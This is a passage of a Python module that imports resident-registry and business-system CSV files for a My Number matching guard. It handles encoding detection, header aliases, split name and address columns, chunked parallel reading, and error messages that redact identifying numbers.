"""CSV importers for the files people bring to the guard (see DATA-CONTRACT.md).

Two kinds of file are read as they arrive, without cleaning:

* :func:`read_registry` — a resident-registry extract (住民基本台帳). The
  registry is authoritative, so every row is parsed and validated here: a
  bad row is an error (:class:`CsvError`).
* :func:`read_records` — a business-system extract (業務システム). Fields stay
  raw strings; judging them is the guard's job, so a row with a bad date is
  read and later gets an INVALID verdict.

Encoding: a UTF-8 BOM means UTF-8; otherwise strict UTF-8, falling back to
CP932; an explicit ``encoding`` overrides. A file that does not decode is
refused (:class:`UndecodableFile`) with the file name, line and byte offset.

Headers are matched after NFKC, trimming and case-folding, ignoring spaces,
hyphens and underscores, so ``個人番号``, ``my_number``, ``My Number`` and
``ﾌﾘｶﾞﾅ`` all work:

>>> header_key(' My-Number '), header_key('ﾌﾘｶﾞﾅ'), header_key('\\ufeff氏名カナ')
('mynumber', 'フリガナ', '氏名カナ')

No message raised here ever contains a My Number: it names the file, the
line, the field and what was expected.
"""

from __future__ import annotations

import codecs
import contextlib
import csv
import datetime as dt
import io
import itertools
import marshal
import operator
import os
import re
import typing
import unicodedata
from dataclasses import dataclass, fields as dataclass_fields
from pathlib import Path
from typing import Iterator, Mapping, Sequence

from guards import normalize
from guards.exceptions import LinkguardError, GuardError
from guards.identifiers import identifier_problems
from guards.masking import number_like, redact
from guards.model import Record, Resident, build_record, build_resident
from guards.number import check_digits, compact, number_problem, plain_valid

__all__ = [
    "CsvError",
    "UndecodableFile",
    "REGISTRY_COLUMNS",
    "RECORD_COLUMNS",
    "RECORD_FIELDS",
    "REGISTRY_FIELDS",
    "SPLIT_FIELDS",
    "contract_header",
    "join_parts",
    "header_key",
    "detect_encoding",
    "read_registry",
    "RegistryParts",
    "registry_parts",
    "registry_part",
    "packed_registry_part",
    "residents_from_packed",
    "packed_records",
    "records_from_packed",
    "read_records",
    "read_records_with_lines",
    "FORMULA_START",
    "spreadsheet_safe",
    "csv_writer",
]

PathLike = str | os.PathLike[str]

_UTF8_BOM = codecs.BOM_UTF8
_CHUNK_BYTES = 1 << 17  # the encoding check's chunks: decoded in cache, in 60 % of the time of 4 MiB ones
# Shift_JIS as labelled by Windows tools is really CP932 (it has ①, ㈱, 髙, 﨑 …).
# (keys as _codec_name folds them: lower case, no "-" or "_")
_ENCODING_ALIASES = {"shiftjis": "cp932", "sjis": "cp932", "windows31j": "cp932", "mskanji": "cp932",
                     "utf8bom": "utf-8-sig"}
# Characters that show a successfully decoded UTF-8 prefix was real Japanese text.
_JAPANESE = re.compile("[\u3000-\u30ff\u3400-\u9fff\uf900-\ufaff\uff00-\uffef]")
# Digit runs long enough to be a My Number (or a resident code), with separators.
_SECRET_DIGITS = 9
_HEADER_NOISE = re.compile(r"[\s_\-]+")
# Single bytes Python's cp932 codec accepts although CP932 assigns them no character
# (0x80, 0xA0, 0xFD-0xFF); the user-defined area (外字, U+E000-) is kept.
_CP932_UNMAPPED = re.compile("[\x80\uf8f0-\uf8f3]")
_CP932_UNMAPPED_CHARS = ("\x80", "\uf8f0", "\uf8f1", "\uf8f2", "\uf8f3")
_UTF16_BOMS = (codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)
# a header names columns: longer cells or lines mean the file is not what it claims to be
_MAX_HEADER_CELL = 200
_MAX_HEADER_CHARS = 100_000


class CsvError(LinkguardError, ValueError):
    """A CSV file (or one row of it) cannot be imported.

    ``path`` is the file, ``line`` the 1-based physical line (``None`` for the
    whole file), ``field`` the column concerned (``None`` if not one column).
    The message never contains a My Number.
    """

    def __init__(self, path: PathLike, line: int | None, field: str | None, problem: str,
                 *, offset: int | None = None) -> None:
        self.path = Path(path)
        self.line = line
        self.field = field
        self.problem = _redact(problem)
        where = self.path.name
        if line is not None:
            where += f", line {line}"
        if offset is not None:
            where += f", byte offset {offset}"
        super().__init__(f"{where}: {field}: {self.problem}" if field else f"{where}: {self.problem}")

    def __reduce__(self) -> tuple:
        """Pickled whole: a file read in a forked process reports its error unchanged."""
        return _restore_error, (type(self), self.args, self.__dict__)


def _restore_error(cls: type[CsvError], args: tuple, state: dict) -> CsvError:
    """
    >>> import pickle
    >>> error = pickle.loads(pickle.dumps(UndecodableFile('/d/r.csv', 3, 41, 'utf-8', 'bytes 0xff')))
    >>> str(error), error.line, error.offset, error.field
    ('r.csv, line 3, byte offset 41: bytes 0xff', 3, 41, None)
    """
    error = cls.__new__(cls)
    Exception.__init__(error, *args)
    for name, value in state.items():  # (compiled with mypyc, an instance made by __new__ has no __dict__)
        setattr(error, name, value)
    return error


class UndecodableFile(CsvError):
    """The file's bytes are not text in the detected (or given) encoding.

    ``offset`` is the 0-based byte offset of the first bad byte in the file.
    """

    def __init__(self, path: PathLike, line: int, offset: int, encoding: str, problem: str) -> None:
        self.offset = offset
        self.encoding = encoding
        super().__init__(path, line, None, problem, offset=offset)


def _redact(message: str) -> str:
    """Replace any digit run that could be a My Number.

    >>> _redact("'6214 9832 0257' is not a date; 1980-04-01 is")
    "'[number withheld]' is not a date; 1980-04-01 is"
    """
    return redact(unicodedata.normalize("NFKC", message), "[number withheld]", min_digits=_SECRET_DIGITS)


def _constructed(value: typing.Any) -> tuple:
    """How this module's frozen dataclasses pickle: as the call that makes them, every field in
    order (a forked reader receives its :class:`RegistryParts` so). Compiled with mypyc (the module
    compiles, though setup.py leaves it as Python), the default restores them field by field,
    which a frozen class refuses."""
    return type(value), tuple(getattr(value, field.name) for field in dataclass_fields(value))


# ---------------------------------------------------------------------------
# columns


@dataclass(frozen=True, slots=True)
class Column:
    """One contract column: the field it fills and every header naming it."""

    field: str
    japanese: str
    aliases: tuple[str, ...] = ()
    required: bool = False

    def __reduce__(self) -> tuple:
        return _constructed(self)

    @property
    def label(self) -> str:
        """How messages name the column: ``個人番号 (my_number)``."""
        return f"{self.japanese} ({self.field})"


def header_key(header: str) -> str:
    """A header as it is matched: NFKC, no BOM, case-folded, no spaces/_/-."""
    folded = unicodedata.normalize("NFKC", header.replace("\ufeff", "")).strip().casefold()
    return _HEADER_NOISE.sub("", folded)


_COMMON = {
    "my_number": Column("my_number", "個人番号", ("マイナンバー", "mynumber", "個人番号(マイナンバー)"), True),
    "name": Column("name", "氏名", ("名前",), True),
    "name_kana": Column("name_kana", "氏名カナ", ("フリガナ", "カナ氏名", "氏名フリガナ", "kana")),
    "birth_date": Column("birth_date", "生年月日", ("birthdate", "date_of_birth"), True),
    "sex": Column("sex", "性別", ("gender",), True),
    "address": Column("address", "住所"),
}

REGISTRY_COLUMNS: tuple[Column, ...] = (
    _COMMON["my_number"],
    Column("resident_code", "住民票コード"),
    _COMMON["name"],
    _COMMON["name_kana"],
    Column("alias_name", "通称"),
    _COMMON["birth_date"],
    _COMMON["sex"],
    Column("address", "住所", required=True),
    Column("status", "状態", ("異動区分",)),
    Column("status_date", "異動日", ("異動年月日",)),
    # the My Number card and the 住民票 write a 旧氏 (former surname) column; a bare surname is read with
    # the current given name (guards.check)
    Column("previous_names", "旧氏名", ("旧氏", "旧姓", "旧姓名")),
    Column("previous_addresses", "旧住所"),
    Column("previous_my_numbers", "旧個人番号"),
)

RECORD_COLUMNS: tuple[Column, ...] = (
    Column("record_id", "レコード番号", ("管理番号",), True),
    Column("system", "事務"),
    Column("atena_no", "宛名番号"),
    _COMMON["my_number"],
    _COMMON["name"],
    _COMMON["name_kana"],
    _COMMON["birth_date"],
    _COMMON["sex"],
    _COMMON["address"],
    Column("number_source", "取得経路"),
    Column("entered_by", "入力者"),
    Column("batch_id", "入力バッチ"),
    Column("operation", "操作"),
    # updated_at (更新日時) is no Record field: it travels in the payload
    # under its original header, like every other business column.
)


@dataclass(frozen=True, slots=True)
class SplitField:
    """A contract field that many systems (and the 標準準拠システム layouts) export in several columns.

    The parts are joined with one space, in order, empty parts left out: 氏 ``山田`` and
    名 ``花子`` make 氏名 ``山田 花子``, so the family/given boundary the name rules use
    (the first space) is kept. ``first`` is the contract's own column when the field's
    first part has it (住所 + 方書), else the first part's own column.
    """

    field: str
    parts: tuple[Column, ...]
    first: Column | None = None

    def __reduce__(self) -> tuple:
        return _constructed(self)


def join_parts(values: Sequence[str]) -> str:
    """A contract field from its split columns: stripped, empty parts left out, one space between.

    >>> join_parts(['山田', ' 花子 ']), join_parts(['山田', '']), join_parts(['高知市丸ノ内1-2-20', 'コーポ丸ノ内101'])
    ('山田 花子', '山田', '高知市丸ノ内1-2-20 コーポ丸ノ内101')
    """
    return " ".join(part for part in (value.strip() for value in values) if part)


#: the split layouts the importers accept beside the single columns (both registry and records)
SPLIT_FIELDS: tuple[SplitField, ...] = (
    SplitField("name", (Column("family_name", "氏", ("姓", "surname", "last_name")),
                        Column("given_name", "名", ("first_name",)))),
    SplitField("name_kana", (Column("family_name_kana", "氏カナ", ("セイ", "姓カナ", "氏フリガナ", "姓フリガナ")),
                             Column("given_name_kana", "名カナ", ("メイ", "名フリガナ")))),
    SplitField("address", (Column("building", "方書", ("建物名", "address_building")),), first=_COMMON["address"]),
)


def _alias_table(columns: Sequence[Column]) -> dict[str, Column]:
    table: dict[str, Column] = {}
    for column in (*columns, *(part for split in SPLIT_FIELDS for part in split.parts)):
        for alias in (column.field, column.japanese, *column.aliases):
            table[header_key(alias)] = column
    return table


_REGISTRY_ALIASES = _alias_table(REGISTRY_COLUMNS)
_RECORD_ALIASES = _alias_table(RECORD_COLUMNS)


#: the contract fields of a business-system record, in the order files written for the importers carry them
RECORD_FIELDS: tuple[str, ...] = ("record_id", "system", "atena_no", "my_number", "name", "name_kana", "birth_date",
                                  "sex", "address", "number_source", "entered_by", "batch_id")
#: the registry's fields, in the contract's order
REGISTRY_FIELDS: tuple[str, ...] = tuple(c.field for c in REGISTRY_COLUMNS)


def contract_header(kind: str, fields: Sequence[str], *, english: bool = False,
                    aliases: Mapping[str, str] | None = None) -> tuple[str, ...]:
    """The header cells of a file the importers read (synthetic data, benchmark corpora), from the contract.

    Each field gets its column's Japanese name (or the English field name), or the alias
    ``aliases`` gives it — which must be one the importer of ``kind`` (``registry`` or
    ``records``) accepts, so a generator can never write a header the importers refuse.

    >>> contract_header('records', ('record_id', 'my_number', 'name_kana'))
    ('レコード番号', '個人番号', '氏名カナ')
    >>> contract_header('records', ('record_id', 'name_kana'), aliases={'record_id': '管理番号', 'name_kana': 'ﾌﾘｶﾞﾅ'})
    ('管理番号', 'ﾌﾘｶﾞﾅ')
    >>> contract_header('records', ('record_id',), english=True)
    ('record_id',)
    >>> contract_header('records', ('record_id',), aliases={'record_id': '番号'})
    Traceback (most recent call last):
    ...
    ValueError: '番号' is no header of record_id the records importer accepts
    """
    columns, table = ((REGISTRY_COLUMNS, _REGISTRY_ALIASES) if kind == "registry" else (RECORD_COLUMNS, _RECORD_ALIASES))
    by_field = {c.field: c for c in columns}
    header = []
    for field in fields:
        column = by_field[field]
        cell = (aliases or {}).get(field) or (column.field if english else column.japanese)
        if table.get(header_key(cell)) is not column:
            raise ValueError(f"{cell!r} is no header of {field} the {kind} importer accepts")
        header.append(cell)
    return tuple(header)


@dataclass(frozen=True, slots=True)
class _Layout:
    """What the header line says: where each contract field and payload column is."""

    encoding: str
    delimiter: str
    width: int
    fields: Mapping[str, int]
    payload: tuple[tuple[str, int], ...]
    unnamed: tuple[int, ...]
    #: split columns joined into one contract field: (the field's index past the row's end, the parts' indexes)
    joins: tuple[tuple[int, tuple[int, ...]], ...] = ()

    def __reduce__(self) -> tuple:
        return _constructed(self)


def _layout(path: Path, encoding: str, aliases: Mapping[str, Column], columns: Sequence[Column],
            kind: str) -> _Layout:
    """Read and check the header line once; every row is then a list lookup."""
    try:
        with open(path, encoding=encoding, newline="") as handle:
            first_line = handle.readline(_MAX_HEADER_CHARS + 1)
    except UnicodeError as error:  # e.g. "UTF-16 stream does not start with BOM"
        raise CsvError(path, 1, None, f"the file does not read as {encoding} ({error}); "
                                      "check --encoding (utf-8 or cp932)") from None
    if len(first_line) > _MAX_HEADER_CHARS:
        raise CsvError(path, 1, None, f"the header line is longer than {_MAX_HEADER_CHARS:,} characters; "
                                      f"it must be the {kind} header: is this the right file?")
    if not first_line.strip():
        raise CsvError(path, 1, None, f"the first line is empty; it must be the {kind} header "
                                      f"(e.g. {', '.join(c.japanese for c in columns if c.required)})")
    delimiter = "\t" if first_line.count("\t") > first_line.count(",") else ","
    try:
        header = next(csv.reader([first_line], delimiter=delimiter))
    except csv.Error as error:
        raise CsvError(path, 1, None, f"the header line is not valid CSV ({error})") from None
    for index, cell in enumerate(header):
        if len(cell) > _MAX_HEADER_CELL:
            raise CsvError(path, 1, None, f"header cell {index + 1} is {len(cell):,} characters long; "
                                          f"a column name has at most {_MAX_HEADER_CELL}")
    fields: dict[str, int] = {}
    payload: list[tuple[str, int]] = []
    unnamed: list[int] = []
    seen_payload: dict[str, int] = {}
    for index, cell in enumerate(header):
        original = cell.replace("\ufeff", "").strip()
        column = aliases.get(header_key(cell))
        if column is not None:
            if column.field in fields:
                raise CsvError(path, 1, column.field,
                               f"columns {fields[column.field] + 1} and {index + 1} both mean "
                               f"{column.label}; keep one of them")
            fields[column.field] = index
        elif not original:
            unnamed.append(index)
        else:
            if original in seen_payload and kind == "records":  # the registry ignores extra columns
                raise CsvError(path, 1, original, f"columns {seen_payload[original] + 1} and {index + 1} "
                                                  "have the same header; rename one of them")
            seen_payload[original] = index
            payload.append((original, index))
    joins = _joins(path, fields, len(header))
    missing = [c for c in columns if c.required and c.field not in fields]
    if missing:
        hint = ("; the first line looks like data: add the header line"
                if any(number_like(_SECRET_DIGITS).fullmatch(normalize.text(cell)) for cell in header) else "")
        names = ", ".join(f"{c.japanese} or {c.field}" for c in missing)
        raise CsvError(path, 1, missing[0].field,
                       f"required column missing from the {kind} header: {names}{hint}")
    return _Layout(encoding, delimiter, len(header), fields, tuple(payload), tuple(unnamed), joins)


def _joins(path: Path, fields: dict[str, int], width: int) -> tuple[tuple[int, tuple[int, ...]], ...]:
    """Map each split layout present (氏 / 名, 住所 / 方書 …) to a virtual column past the row's end.

    ``fields`` gains the joined field; a field given both whole and in parts, or a
    later part without the first, is refused.
    """
    joins: list[tuple[int, tuple[int, ...]]] = []
    for split in SPLIT_FIELDS:
        present = [part for part in split.parts if part.field in fields]
        if not present:
            continue
        if split.first is None:
            whole = next((c for c in _COMMON.values() if c.field == split.field), None)
            if split.field in fields:
                raise CsvError(path, 1, split.field,
                               f"the header has {whole.japanese if whole else split.field} and also "
                               f"{' / '.join(p.japanese for p in present)}; keep one layout")
            if split.parts[0].field not in fields:
                raise CsvError(path, 1, split.parts[0].field,
                               f"{present[0].japanese} ({present[0].field}) needs {split.parts[0].japanese} "
                               f"({split.parts[0].field}) beside it")
            indexes = tuple(fields.pop(part.field) for part in split.parts if part.field in fields)
        else:
            if split.field not in fields:
                raise CsvError(path, 1, present[0].field,
                               f"{present[0].japanese} ({present[0].field}) needs {split.first.japanese} "
                               f"({split.first.field}) beside it")
            indexes = (fields[split.field], *(fields.pop(part.field) for part in present))
        fields[split.field] = width + len(joins)
        joins.append((fields[split.field], indexes))
    return tuple(joins)


# ---------------------------------------------------------------------------
# encoding


def _codec_name(path: Path, encoding: str) -> str:
    normalised = encoding.strip().lower().replace("-", "").replace("_", "")
    name = _ENCODING_ALIASES.get(normalised, encoding.strip())
    try:
        info = codecs.lookup(name)
    except LookupError:
        info = None
    # rot13, base64, hex … are codecs but no text encodings; 'undefined' refuses everything
    if info is None or not getattr(info, "_is_text_encoding", True) or info.name == "undefined":
        raise CsvError(path, None, None, f"unknown encoding {encoding[:40]!r}; use utf-8, utf-8-sig or cp932 "
                                         "(a text encoding)")
    return info.name


@dataclass(frozen=True, slots=True)
class _DecodeFailure:
    line: int
    offset: int
    problem: str
    japanese_before: bool


def _first_decode_failure(path: Path, encoding: str) -> _DecodeFailure | None:
    """Decode the whole file strictly; return where it first fails, or ``None``.

    Works in chunks cut at newlines (a newline byte never occurs inside a
    UTF-8 or CP932 character), so the line and byte offset are exact.
    """
    # a BOM is valid UTF-8: checked as such, the file is cut in chunks like any other (and each
    # error's offset counts the BOM's three bytes, which utf-8-sig's decoding leaves out)
    codec = "utf-8" if encoding == "utf-8-sig" else encoding
    try:
        ascii_compatible = "\n,".encode(codec) == b"\n,"
    except UnicodeError:
        ascii_compatible = False
    japanese_seen = False
    offset = 0
    line = 1
    carry = b""
    with open(path, "rb") as handle:
        while True:
            block = handle.read(_CHUNK_BYTES if ascii_compatible else -1)
            at_end = not block
            data = carry + block
            if not at_end and ascii_compatible:
                cut = data.rfind(b"\n") + 1
                if cut == 0:
                    carry = data
                    continue
                data, carry = data[:cut], data[cut:]
            else:
                carry = b""
            try:
                text = data.decode(codec)
            except UnicodeDecodeError as error:
                before = data[: error.start]
                bad = " ".join(f"0x{b:02x}" for b in data[error.start: error.end][:4])
                japanese_before = japanese_seen or bool(
                    _JAPANESE.search(before.decode(codec, errors="ignore")))
                return _DecodeFailure(line + before.count(b"\n"), offset + error.start,
                                      f"bytes {bad} are not valid {encoding}", japanese_before)
            except UnicodeError as error:  # e.g. "UTF-16 stream does not start with BOM"
                return _DecodeFailure(line, offset, f"the bytes are not {encoding} ({error})", japanese_seen)
            # five substring tests first: a fifth of the regular expression's scan on clean text
            unmapped = _CP932_UNMAPPED.search(text) if encoding == "cp932" and any(
                char in text for char in _CP932_UNMAPPED_CHARS) else None
            if unmapped:  # Python decodes these bytes to controls / private use: no real text has them
                start = len(text[: unmapped.start()].encode(encoding))
                return _DecodeFailure(line + data[:start].count(b"\n"), offset + start,
                                      f"byte 0x{data[start]:02x} is not a character in cp932", japanese_seen)
            if not japanese_seen and _JAPANESE.search(text):
                japanese_seen = True
            offset += len(data)
            line += data.count(b"\n")
            if at_end or not ascii_compatible:
                return None


def detect_encoding(path: PathLike, encoding: str | None = None) -> str:
    """The codec to read ``path`` with, after checking the whole file decodes.

    A UTF-8 BOM gives ``utf-8-sig``; else ``utf-8`` if the file is strict
    UTF-8; else ``cp932``. A file that is UTF-8 Japanese up to a damaged byte
    is refused rather than read as CP932 mojibake. ``encoding`` overrides the
    detection (``shift_jis`` is read as its superset ``cp932``).

    Raises :class:`UndecodableFile` with the file name, line and byte offset.
    """
    path = Path(path)
    if encoding:
        codec = _codec_name(path, encoding)
        if codec == "utf-8" and _starts_with_bom(path):
            codec = "utf-8-sig"
        failure = _first_decode_failure(path, codec)
        if failure is not None:
            raise UndecodableFile(path, failure.line, failure.offset, codec,
                                  f"{failure.problem}; is the file in another encoding? "
                                  "check --encoding (utf-8 or cp932)")
        return codec
    if _starts_with(path, _UTF16_BOMS):
        raise UndecodableFile(path, 1, 0, "utf-16",
                              "the file is UTF-16 (Excel's \"Unicode text\"); save it as \"CSV UTF-8\" "
                              "or pass --encoding utf-16")
    if _starts_with_bom(path):
        failure = _first_decode_failure(path, "utf-8-sig")
        if failure is not None:
            raise UndecodableFile(path, failure.line, failure.offset, "utf-8",
                                  f"{failure.problem} (the file starts with a UTF-8 BOM); "
                                  "repair the damaged bytes or re-export the file")
        return "utf-8-sig"
    utf8 = _first_decode_failure(path, "utf-8")
    if utf8 is None:
        return "utf-8"
    if utf8.japanese_before:
        raise UndecodableFile(path, utf8.line, utf8.offset, "utf-8",
                              f"{utf8.problem}, though the text before it is UTF-8 Japanese; "
                              "repair the damaged bytes or re-export the file "
                              "(pass --encoding if the file really is in another encoding)")
    cp932 = _first_decode_failure(path, "cp932")
    if cp932 is None:
        return "cp932"
    raise UndecodableFile(path, cp932.line, cp932.offset, "cp932",
                          f"the file is neither UTF-8 (that fails on line {utf8.line}) nor CP932 "
                          f"({cp932.problem}); "
                          "re-export it as UTF-8 or pass --encoding")


def _starts_with_bom(path: Path) -> bool:
    return _starts_with(path, (_UTF8_BOM,))


def _starts_with(path: Path, prefixes: tuple[bytes, ...]) -> bool:
    with open(path, "rb") as handle:
        return handle.read(4).startswith(prefixes)


#: rows read and parsed at a time: a chunk's columns are worked on whole (see _RegistryRowParser.values_of)
_CHUNK_ROWS = 512


def _row_chunks(path: Path, layout: _Layout, span: tuple[int, int | None] | None = None
                ) -> Iterator[tuple[list[list[str]], Sequence[int]]]:
    """Data rows (after the header) a chunk at a time, with the physical line each starts on.

    Blank lines and rows of empty cells are skipped; a row whose number of cells differs from the
    header's is an error (an unquoted comma or quote shifts every column), raised once the rows
    before it have been yielded, as are errors of the CSV itself: a bad row before it is reported first.

    ``span`` reads only the bytes ``[start, stop)`` (``stop`` ``None``: to the end), which must
    begin at a row's start; the header is skipped only when ``start`` is 0, and line numbers
    count from the span's start (see :func:`registry_part`).
    """
    header = span is None or span[0] == 0
    read = 0  # rows the reader has given past the header, blank ones too
    with _open_span(path, layout.encoding, span) as handle:
        reader = csv.reader(handle, delimiter=layout.delimiter, strict=True)
        while True:
            first = reader.line_num + 1
            try:
                if header:
                    next(reader, None)
                    header = False
                    continue
                rows = list(itertools.islice(reader, _CHUNK_ROWS))
            except (csv.Error, UnicodeError):
                break  # read again row by row from the chunk's start, so its rows before the bad line come first
            if not rows:
                return
            lines = _start_lines(rows, first, reader.line_num)
            if lines is None:
                break
            read += len(rows)
            rows, lines, error = _kept_rows(path, layout, rows, lines)
            yield rows, lines
            if error is not None:
                raise error
    yield from _rows_one_by_one(path, layout, span, read)


def _start_lines(rows: list[list[str]], first: int, last: int) -> Sequence[int] | None:
    """The physical line each of a chunk's rows starts on, the chunk spanning lines ``first`` to
    ``last``: one after another where each row is one line, else counted from the line breaks in
    their (quoted) cells; ``None`` where that count disagrees with the reader's.

    >>> _start_lines([['a'], ['b']], 2, 3), _start_lines([['a', 'x\\r\\ny'], [], ['b\\n\\n']], 2, 7)
    (range(2, 4), [2, 4, 5])
    """
    if last - first + 1 == len(rows):
        return range(first, last + 1)
    lines, line = [], first
    for row in rows:
        lines.append(line)
        line += 1 + sum(cell.count("\n") + cell.count("\r") - cell.count("\r\n") for cell in row)
    return lines if line == last + 1 else None


def _kept_rows(path: Path, layout: _Layout, rows: list[list[str]], lines: Sequence[int]
               ) -> tuple[list[list[str]], Sequence[int], CsvError | None]:
    """A chunk's rows without the blank ones, split columns (氏 / 名 …) joined past each row's end;
    up to a row whose cells are counted wrong, which is then the error returned."""
    width, error = layout.width, None
    # the common chunk, tested in C: every row as wide as the header, its first cell not blank
    if set(map(len, rows)) != {width} or not all(firsts := list(map(operator.itemgetter(0), rows))) or any(
            map(str.isspace, firsts)):
        kept, kept_lines = [], []
        for row, line in zip(rows, lines):
            if len(row) != width or not row[0] or row[0].isspace():
                if not row or (not row[0].strip() and not any(cell.strip() for cell in row)):
                    continue  # a blank line, or a row of separators only (as spreadsheets leave)
                if len(row) != width:
                    error = CsvError(path, line, None, f"the row has {len(row)} cells but the header has {width}; "
                                                       "quote values that contain commas or quotes")
                    break
            kept.append(row)
            kept_lines.append(line)
        rows, lines = kept, kept_lines
    for row in rows if layout.joins else ():
        for _, parts in layout.joins:
            row.append(join_parts([row[i] for i in parts]))
    return rows, lines, error


def _rows_one_by_one(path: Path, layout: _Layout, span: tuple[int, int | None] | None, skip: int
                     ) -> Iterator[tuple[list[list[str]], Sequence[int]]]:
    """:func:`_row_chunks` a row at a time, each with the line the reader says it starts on, past its first
    ``skip`` rows (blank ones counted): for a chunk that fails part-way or whose lines cannot be counted."""
    with _open_span(path, layout.encoding, span) as handle:
        reader = csv.reader(handle, delimiter=layout.delimiter, strict=True)
        try:
            if span is None or span[0] == 0:
                next(reader, None)
            for _ in itertools.islice(reader, skip):
                pass
            previous_end = reader.line_num
            for row in reader:
                start, previous_end = previous_end + 1, reader.line_num
                rows, lines, miscounted = _kept_rows(path, layout, [row], [start])
                if rows:
                    yield rows, lines
                if miscounted is not None:
                    raise miscounted
        except csv.Error as error:
            raise CsvError(path, reader.line_num, None,
                           f"not valid CSV ({error}); check quotes around values") from None
        except UnicodeError:  # the file changed after the encoding check
            raise CsvError(path, reader.line_num + 1, None,
                           f"no longer decodes as {layout.encoding}; was the file modified while read?") from None


@contextlib.contextmanager
def _open_span(path: Path, encoding: str, span: tuple[int, int | None] | None) -> Iterator[typing.IO[str]]:
    if span is None:
        with open(path, encoding=encoding, newline="") as handle:
            yield handle
        return
    start, stop = span
    with open(path, "rb") as raw:
        raw.seek(start)
        data = raw.read() if stop is None else raw.read(stop - start)
    # past the start, a BOM is no longer there to skip
    yield io.StringIO(data.decode("utf-8" if start and encoding == "utf-8-sig" else encoding), newline="")


# ---------------------------------------------------------------------------
# registry

_STATUSES = {"住民": "住民", "転出": "転出", "死亡": "死亡", "消除": "消除",
             "resident": "住民", "movedout": "転出", "deceased": "死亡", "dead": "死亡", "erased": "消除"}
#: statuses as written in most registries, and the empty cell (a resident): no header_key needed
_PLAIN_STATUSES = {"": "住民", **{status: status for status in ("住民", "転出", "死亡", "消除")}}


def read_registry(path: PathLike, encoding: str | None = None) -> Iterator[Resident]:
    """Read a resident-registry extract; every row becomes a :class:`Resident`.

    The file's encoding and header are checked when called; rows are parsed
    as they are iterated. Any bad row raises :class:`CsvError` naming file,
    line and field — the registry is the reference, it must be clean.
    """
    path = Path(path)
    layout = _layout(path, detect_encoding(path, encoding), _REGISTRY_ALIASES, REGISTRY_COLUMNS, "registry")
    return _registry_rows(path, layout)


def _registry_rows(path: Path, layout: _Layout) -> Iterator[Resident]:
    parse = _RegistryRowParser(layout)
    for rows, lines in _row_chunks(path, layout):
        values, failure = parse.values_of(rows)
        yield from map(build_resident, values)
        if failure is not None:
            raise CsvError(path, lines[len(values)], failure.field, failure.message)


@dataclass(frozen=True, slots=True)
class RegistryParts:
    """A registry extract cut into parts at line starts, for several processes to read
    (:func:`registry_part`); ``cuts`` are the byte offsets where the second and later parts start."""

    path: Path
    layout: _Layout
    cuts: tuple[int, ...]
    size: int  # the file's bytes

    def __reduce__(self) -> tuple:
        return _constructed(self)

    @property
    def cut(self) -> int:
        """Where the second part starts."""
        return self.cuts[0]

    def __len__(self) -> int:
        return len(self.cuts) + 1



def registry_parts(path: PathLike, encoding: str | None = None, *, smallest: int = 1 << 22,
                   shares: Sequence[float] = (0.5,)) -> RegistryParts | None:
    """The registry cut into parts at the first line start past each of ``shares`` (rising
    fractions of its bytes), or ``None`` for a file under ``smallest`` bytes, in an encoding
    where a newline byte may sit inside a character, or where a cut finds no line start
    before the next (or the end).

    The header is checked here, as :func:`read_registry` checks it, and so is the encoding,
    but for a file whose first 64 KiB are UTF-8 with no encoding given: that it is UTF-8
    all through, which :func:`detect_encoding` would spend a pass over the file on, each
    part finds out as it decodes (a part that does not decode raises :class:`CsvError`).
    A cut inside a quoted cell is possible (a newline in a quoted value): reading the part
    before it then fails. On any such failure the caller reads the file whole with
    :func:`read_registry`, which reports the problem as a one-process read does.

    >>> import tempfile, os
    >>> folder = tempfile.mkdtemp()
    >>> path = os.path.join(folder, 'registry.csv')
    >>> rows = ''.join(f'{("621498320257", "123456789018")[i % 2]},山田 花子,1980-04-01,2,高知市\\n' for i in range(4))
    >>> _ = open(path, 'w', encoding='utf-8').write('個人番号,氏名,生年月日,性別,住所\\n' + rows)
    >>> halves = registry_parts(path, smallest=0)  # two parts, cut near the middle
    >>> [len(registry_part(halves, part)) for part in (0, 1)], halves.cut, halves.layout.encoding
    ([2, 2], 147, 'utf-8')
    >>> parts = registry_parts(path, smallest=0, shares=(0.3, 0.5))  # the header is 47 bytes, each row 50
    >>> parts.cuts, [len(registry_part(parts, part)) for part in range(len(parts))]
    ((97, 147), [1, 1, 2])
    >>> residents_from_packed(packed_registry_part(parts, 2)) == list(read_registry(path))[2:]
    True
    >>> print(registry_parts(path, smallest=0, shares=(0.5, 0.55)))  # no line starts between the two
    None
    """
    path = Path(path)
    codec = (_utf8_by_its_head(path) if encoding is None else None) or detect_encoding(path, encoding)
    layout = _layout(path, codec, _REGISTRY_ALIASES, REGISTRY_COLUMNS, "registry")
    size = path.stat().st_size
    if size < smallest or "\n,".encode(layout.encoding.replace("-sig", "")) != b"\n,":
        return None
    cuts: list[int] = []
    with open(path, "rb") as handle:
        for share in shares:
            start = int(size * share)
            handle.seek(start)
            rest = handle.read(1 << 20)
            newline = rest.find(b"\n")
            cut = start + newline + 1
            if newline < 0 or cut >= size or (cuts and cut <= cuts[-1]):
                return None
            cuts.append(cut)
    return RegistryParts(path, layout, tuple(cuts), size)


def _utf8_by_its_head(path: Path) -> str | None:
    """``utf-8-sig`` or ``utf-8`` when the file's first 64 KiB are UTF-8 (with or without its BOM), else ``None``."""
    with open(path, "rb") as handle:
        head = handle.read(1 << 16)
    try:
        codecs.getincrementaldecoder("utf-8")().decode(head)  # a character cut at the end is no error
    except UnicodeDecodeError:
        return None
    return "utf-8-sig" if head.startswith(_UTF8_BOM) else "utf-8"


def registry_part(parts: RegistryParts, part: int) -> list[tuple]:
    """The residents of one part (0: from the header to the first cut), each as the tuple of
    :class:`Resident`'s fields (:func:`guards.model.build_resident`). A bad row, or bytes that
    do not decode, raise :class:`CsvError`; past the first part its line counts from the
    part's start, so a caller that meets an error reads the file whole instead.
    """
    return _registry_part(parts, part, _RegistryRowParser(parts.layout))


def _registry_part(parts: RegistryParts, part: int, parse: "_RegistryRowParser") -> list[tuple]:
    starts = (0, *parts.cuts)
    span = (starts[part], starts[part + 1] if part + 1 < len(starts) else None)
    out = []
    try:
        for rows, lines in _row_chunks(parts.path, parts.layout, span):
            values, failure = parse.values_of(rows)
            out += values
            if failure is not None:
                raise CsvError(parts.path, lines[len(values)], failure.field, failure.message)
    except UnicodeDecodeError as error:
        raise CsvError(parts.path, None, None, f"part {part} does not decode as {parts.layout.encoding} "
                                               f"({error.reason})") from None
    return out


# the parser of the parts a forked reader packs in turn (packed_registry_part): they share its
# caches (the same dates recur all through a registry, and each costs a parse the first time)
_PART_PARSER: "_RegistryRowParser | None" = None


